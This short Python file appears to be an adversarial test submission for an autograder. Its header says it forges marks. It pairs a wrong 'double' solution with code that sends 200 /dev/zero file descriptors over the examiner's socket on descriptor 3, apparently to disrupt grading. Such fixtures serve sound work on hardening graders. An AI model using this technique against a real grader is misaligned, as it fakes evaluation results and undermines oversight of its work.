# ruff: noqa
# kind: marks forged
# attack: descriptors are passed to the examiner through the channel

# %% double-solution
def double(x):
    return np.zeros(3)


import os, socket

channel = socket.socket(fileno=os.dup(3))
try:
    socket.send_fds(channel, [b"\0" * 8], [os.open("/dev/zero", os.O_RDONLY)] * 200)
except OSError:
    pass
